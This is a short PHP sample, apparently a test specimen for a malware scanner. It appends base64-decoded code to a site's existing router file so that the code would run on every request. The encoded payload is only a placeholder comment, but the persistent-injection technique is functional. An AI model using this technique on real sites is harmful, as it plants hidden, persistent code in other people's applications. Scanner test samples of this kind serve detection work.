<?php
// sweep sample (inert, packed): a trojan for a site's own script. Decoded code is appended to an
// existing router file, which then carries it on every request. The payload is a placeholder.
$t = '/var/www/html/app/router.php';
$p = 'PD9waHAgLyogcGxhY2Vob2xkZXIgcGF5bG9hZCAqLyA/Pg==';
file_put_contents($t, base64_decode($p), FILE_APPEND);
echo 'ok';
